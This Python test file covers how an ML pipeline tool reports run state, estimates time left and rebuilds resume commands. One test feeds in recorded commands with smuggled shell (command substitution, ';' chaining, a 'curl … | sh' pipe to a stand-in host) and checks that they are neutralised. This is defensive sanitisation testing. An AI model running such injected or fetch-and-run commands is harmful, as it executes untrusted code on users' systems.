"""How a run stands: the plan counts, not what was begun; waiting, retried, killed and cancelled runs are named so."""

import io
from datetime import UTC, datetime, timedelta

import pytest
from rich.console import Console

from nautile.common.files import write_json
from nautile.flows import run_state as run_state_module
from nautile.flows.cli.runs import run_unless_config, run_view, step_rows
from nautile.flows.plans import record_interrupted
from nautile.flows.run_state import (
    FIRST_UNFINISHED,
    RUNS,
    live_run,
    newest_with_content,
    questions_by_run,
    resume_command,
    run_state,
    time_left_text,
)
from nautile.flows.selection import Selection
from nautile.store.catalog import Catalog
from nautile.store.events import EventWriter
from nautile.store.manifest import host, now
from nautile.tasks.engine.attempt_log import write_attempt_row, write_row
from nautile.tasks.engine.progress import write_retry_note
from tests.support.samples.stage_store import key_of, published

STEPS = ("ingest", "pretrain", "align", "report")
BEGUN = datetime(2026, 11, 22, 12, tzinfo=UTC)


def at(minutes):
    return (BEGUN + timedelta(minutes=minutes)).isoformat()


def plan(store, run="r1", **fields):
    steps = [
        {"label": label, "stage": label, "key": key_of(label), "after": [*STEPS[max(0, place - 1) : place]]}
        for place, label in enumerate(STEPS)
    ]
    row = {"id": f"{run}-1", "run": run, "config": "toy", "state": "running", "steps": steps, "started": at(0)}
    write_row(store, "plan", row | {"host": host(), "resume": "nautile run toy"} | fields)


def attempt(store, label, state, minutes, seconds=60.0, run="r1", **fields):
    row = {"id": f"{run}-{label}-{minutes}", "run": run, "config": "toy", "stage": label, "label": label}
    row |= {"key": key_of(label), "execution": f"e-{label}", "attempt": 1, "reused": state == "reused"}
    row |= {"state": state, "started": at(minutes), "host": host()}
    if state != "running":
        row |= {"ended": at(minutes + 1), "seconds": seconds}
    write_attempt_row(store, row | fields)


def shown(store, run="r1"):
    """The run's state, and its steps by label."""
    catalog = Catalog(store)
    catalog.ingest()
    with catalog.reading() as read:
        summary = next(row for row in read(RUNS, 9) if row["run"] == run)
        state = run_state(store, read, summary, questions_by_run(store))
    return state, {step.label: step for step in state.steps}


@pytest.fixture
def at_work(store):
    """The process of run r1 is alive."""
    with store.run_lock("r1").for_life():
        yield store


def test_the_steps_to_come_are_counted_and_have_a_time(at_work):
    plan(at_work)
    for label, seconds in (("ingest", 10.0), ("pretrain", 100.0), ("align", 50.0)):
        attempt(at_work, label, "done", -60, seconds, run="r0")
    attempt(at_work, "ingest", "done", 0)
    attempt(at_work, "pretrain", "running", 1, started=now())
    staging = at_work.staging(key_of("pretrain"))
    write_json(staging / "live.json", {"done": 3, "total": 12, "unit": "steps", "note": "loss 2.1"})
    state, steps = shown(at_work)
    assert (state.state, state.finished, len(state.steps)) == ("running", 1, 4)
    assert [step.state for step in state.steps] == ["done", "running", "coming", "coming"]
    assert (steps["pretrain"].share, steps["pretrain"].note) == (0.25, "loss 2.1")
    seconds, unknown = state.time_left()
    assert unknown == 1  # nobody knows how long the report takes
    assert seconds == pytest.approx(3 * steps["pretrain"].elapsed_s + 50.0)


def test_a_run_that_waits_for_an_answer_is_not_done(at_work):
    plan(at_work)
    attempt(at_work, "ingest", "done", 0)
    note = {
        "run": "r1",
        "label": "pretrain",
        "message": "Stage pretrain asks",
        "since": now(),
        "host": "other",
        "pid": 1,
    }
    at_work.questions.mkdir()
    write_json(at_work.questions / "r1.json", note | {"api": None})
    state, steps = shown(at_work)
    assert (state.state, steps["pretrain"].state, steps["align"].state) == ("waiting", "waiting", "coming")
    assert state.question["message"] == "Stage pretrain asks"


def test_after_a_retry_times_and_attempts_are_those_of_this_run(at_work):
    plan(at_work, state="cancelled", ended=at(9))
    attempt(at_work, "ingest", "done", 0, 22.0, peak_bytes=1100)
    attempt(at_work, "pretrain", "cancelled", 2)
    plan(at_work, id="r1-2", started=at(10))
    attempt(at_work, "ingest", "reused", 10, 0.0)
    _, steps = shown(at_work)
    assert steps["pretrain"].state == "coming"  # the retry has not come to it yet
    attempt(at_work, "pretrain", "running", 11, started=now(), attempt=2)
    _, steps = shown(at_work)
    ingest, pretrain = steps["ingest"], steps["pretrain"]
    assert (ingest.state, ingest.row["attempts"], ingest.elapsed_s, ingest.row["peak_bytes"]) == ("done", 1, 22.0, 1100)
    assert (pretrain.state, pretrain.row["attempts"]) == ("running", 2)
    assert pretrain.elapsed_s < 60  # since the second attempt began


def test_a_step_between_two_attempts_waits(at_work):
    plan(at_work)
    attempt(at_work, "ingest", "failed", 0)
    write_retry_note(at_work.staging(key_of("ingest")), "trying again at 12:00", 60.0)
    ingest = shown(at_work)[0].steps[0]
    assert (ingest.state, ingest.note) == ("waiting", "trying again at 12:00")


@pytest.mark.parametrize(
    ("ended", "state"), [("cancelled", "cancelled"), ("running", "interrupted"), ("interrupted", "interrupted")]
)
def test_a_run_whose_process_is_gone_has_no_steps_to_come(store, ended, state):
    plan(store, state=ended, ended=None if ended == "running" else at(9))
    attempt(store, "ingest", "done", 0)
    # Killed before it could record its end; or stopped with a run that nobody has cancelled.
    attempt(store, "pretrain", "cancelled" if ended == "interrupted" else "running", 1)
    shown_state, steps = shown(store)
    assert (shown_state.state, steps["pretrain"].state, steps["align"].state) == (state, "interrupted", "not started")
    assert shown_state.time_left() is None
    assert shown_state.resume == "nautile run toy"


def test_a_run_of_another_machine_is_neither_dead_nor_running_on_a_guess(store, monkeypatch):
    plan(store, host="another-host")
    attempt(store, "ingest", "running", 0, host="another-host", started=now())
    assert shown(store)[0].state == "running"
    monkeypatch.setattr(run_state_module, "SILENT", timedelta(seconds=-1))  # all of its news is older
    state, steps = shown(store)
    assert (state.state, steps["ingest"].state, steps["align"].state) == ("silent", "silent", "not started")
    assert state.resume == "nautile run toy"
    with store.run_lock("r1").for_life():  # on a shared disk whose locks are known to all machines
        assert shown(store)[0].state == "running"


@pytest.mark.slow
def test_a_run_of_another_folder_on_this_machine_is_not_called_dead(machine):
    """As in two containers with one host name: the lock is in the other's folder."""
    there, here = machine("there"), machine("here")
    plan(there)
    attempt(there, "ingest", "running", 0, started=now())
    there.push_events()
    here.refresh(events=True)
    assert shown(here)[0].state == "running"
    with here.run_lock("r1"):
        """Begun here, and killed: the file of its lock is left."""
    assert shown(here)[0].state == "interrupted"


def test_a_run_whose_end_was_settled_stays_interrupted(store):
    plan(store)
    record_interrupted(store, "r1")
    state, steps = shown(store)
    assert (state.state, steps["align"].state, state.changes) == ("interrupted", "not started", ())
    record_interrupted(store, "r1")
    assert len(Catalog(store).query("SELECT * FROM plans")) == 1


def test_an_estimate_and_a_single_use_are_no_runs(store):
    attempt(store, "ingest", "done", 0)
    plan(store)
    plan(store, run="r2", started=at(5), id="r2")  # begun, without an attempt yet
    attempt(store, "plan", "failed", 7, run="plan-12345678")
    catalog = Catalog(store)
    catalog.ingest()
    rows = catalog.query(RUNS, [9])
    assert [row["run"] for row in rows] == ["r2", "r1"]
    assert newest_with_content(rows)["run"] == "r1"


def test_a_step_that_another_run_completed_counts_as_finished(store):
    """The attempts of an execution are numbered through; a reuse of its artifacts is always the first."""
    plan(store, state="done", ended=at(9))
    for label in STEPS[1:]:
        attempt(store, label, "done", 1)
    attempt(store, "ingest", "failed", 2, attempt=2, error="the teacher did not answer")
    attempt(store, "ingest", "reused", 5)
    catalog = Catalog(store)
    catalog.ingest()
    (row,) = catalog.query(RUNS, [9])
    assert (row["finished"], row["failed"], row["planned"]) == (4, 0, 4)


@pytest.mark.parametrize("state", ["done", "reused"])
def test_what_a_finished_step_could_not_read_stays_in_its_row(store, state):
    plan(store, state="done", ended=at(9))
    made = published(store, "tokens", "ingest", facts={"lost": "lost: 1 of 3 files (b.jsonl: is empty)"})
    attempt(store, "ingest", state, 1, execution=made.execution)
    attempt(store, "pretrain", "done", 2)
    steps = shown(store)[1]
    assert steps["ingest"].note == "lost: 1 of 3 files (b.jsonl: is empty)"
    assert steps["pretrain"].note == ""


@pytest.mark.parametrize(
    ("labels", "command"),
    [
        ((), "nautile run toy --from ingest --force --ask-again"),
        (("ingest", "pretrain", "report"), "nautile run toy --from align --force --ask-again"),
    ],
)
def test_a_forced_run_that_was_killed_continues_at_its_first_unfinished_step(store, labels, command):
    """The steps before it have just been written; executed again, their replies would be paid for again."""
    selection = Selection(force=True, ask_again=True)
    plan(store, state="interrupted", ended=at(9), resume=f"nautile run toy{selection.options(FIRST_UNFINISHED)}")
    for label in labels:
        attempt(store, label, "done", 1)
    assert shown(store)[0].resume == command


@pytest.mark.parametrize(
    ("recorded", "command"),
    [
        ("nautile run toy --set 'a=$(touch x)'", "nautile run toy --set 'a=$(touch x)'"),
        ("nautile run $(touch x)", "nautile run '$(touch' 'x)'"),
        ("nautile run toy; touch x", "nautile run 'toy;' touch x"),
        ("nautile run `touch x`", "nautile run '`touch' 'x`'"),
        ("/elsewhere/bin/nautile run toy", "nautile run toy"),
        ("nautile store gc --days 0", ""),
        ("curl https://elsewhere.invalid | sh", ""),
        ("nautile run 'no end", ""),
        ("nautile", ""),
        ("x", ""),
    ],
)
def test_a_recorded_command_that_is_copied_runs_nothing_of_its_own(recorded, command):
    """Another machine may have written the event."""
    assert resume_command({"resume": recorded, "first_unfinished": None}) == command


def test_the_step_that_a_forced_run_resumes_from_is_one_word(store):
    selection = Selection(force=True)
    label = "align; touch x"
    steps = [{"label": label, "stage": "align", "key": key_of("align"), "after": []}]
    plan(
        store, state="failed", ended=at(9), steps=steps, resume=f"nautile run toy{selection.options(FIRST_UNFINISHED)}"
    )
    assert shown(store)[0].resume == "nautile run toy --from 'align; touch x' --force"


def test_a_step_that_takes_longer_than_last_time_says_so_and_its_time_is_unknown(at_work):
    """The time left would stand still, however long it takes."""
    plan(at_work)
    for label in STEPS:
        attempt(at_work, label, "done", -60, 60.0, run="r0")
    attempt(at_work, "ingest", "running", 0, started=(datetime.now(UTC) - timedelta(minutes=5)).isoformat())
    state, steps = shown(at_work)
    assert steps["ingest"].longer_than == 60.0
    assert [steps[label].longer_than for label in STEPS[1:]] == [None] * 3
    assert state.time_left() == (180.0, 1)
    write_json(at_work.staging(key_of("ingest")) / "live.json", {"done": 5, "total": 10, "unit": "files"})
    state, steps = shown(at_work)  # now a rate is known
    assert steps["ingest"].longer_than is None
    assert state.time_left()[1] == 0
    lines = lines_of(at_work)
    (line,) = (line for line in lines if line.startswith("0 of 4"))
    assert "left" in line
    assert "Log: nautile logs r1 --stage ingest" in lines
    # "about 0.0 s left, and 14 steps of unknown time" says nothing about the run.
    assert time_left_text(0.3, 14) == "14 steps of unknown time left"
    assert time_left_text(0.3, 0) == "less than a second left"


def lines_of(store):
    run = run_unless_config(store, "r1")
    console = Console(file=io.StringIO(), width=120)
    console.print(run_view(step_rows(run)))
    return console.file.getvalue().splitlines()


def test_the_warning_about_a_curve_is_a_line_with_its_step(store):
    plan(store, state="done", ended=at(9))
    attempt(store, "pretrain", "done", 0)
    emit = EventWriter(store.root / "events" / "curve.jsonl", "e-pretrain", stage="pretrain")
    for step, loss in enumerate([6.0, 4.6, 8.4]):
        emit("metric", name="validation_loss", step=step, value=loss, source="web")
    emit.close()
    assert "pretrain: The validation loss of web rose from 4.6 at step 1 to 8.4 at step 2: " in "\n".join(
        lines_of(store)
    )


def test_a_retry_does_not_move_the_beginning_of_a_run_nor_its_place_as_the_last_one_started(store):
    plan(store, state="failed", ended=at(9))
    attempt(store, "ingest", "failed", 1)
    plan(store, run="r2", id="r2", state="done", started=at(20), ended=at(21))
    plan(store, id="r1-2", state="done", started=at(30), ended=at(40))
    attempt(store, "ingest", "done", 31)
    catalog = Catalog(store)
    catalog.ingest()
    rows = catalog.query(RUNS, [9])
    assert [row["run"] for row in rows] == ["r1", "r2"]
    assert rows[0]["begun"] == BEGUN.replace(tzinfo=None)


def test_the_run_that_is_meant_without_a_name_is_the_pipeline_at_work(store):
    """A scheduled evaluation has begun after it."""
    single = [{"label": "evaluate", "stage": "evaluate", "key": key_of("evaluate"), "after": []}]
    plan(store, started=at(0))
    plan(store, run="r2", id="r2", started=at(5), steps=single)
    plan(store, run="r3", id="r3", state="done", started=at(6), ended=at(7))
    catalog = Catalog(store)
    catalog.ingest()

    def meant():
        row = live_run(catalog.query(RUNS, [9]), store, questions_by_run(store))
        return row and row["run"]

    assert meant() is None
    # One of another machine, of which nobody knows whether it lives, hides no pipeline that began later.
    plan(store, run="r0", id="r0", started=at(-9), time=now(), host="another-host")
    catalog.ingest()
    assert meant() is None
    with store.run_lock("r0").for_life():  # on a shared disk
        assert meant() == "r0"
    plan(store, run="r4", id="r4", started=at(8), time=now(), host="another-host")
    catalog.ingest()
    assert meant() == "r4"
    plan(store, run="r4", id="r4", started=at(8), host="another-host", state="done", ended=at(9))
    catalog.ingest()
    with store.run_lock("r2").for_life():
        assert meant() == "r2"
        with store.run_lock("r1").for_life():
            assert meant() == "r1"
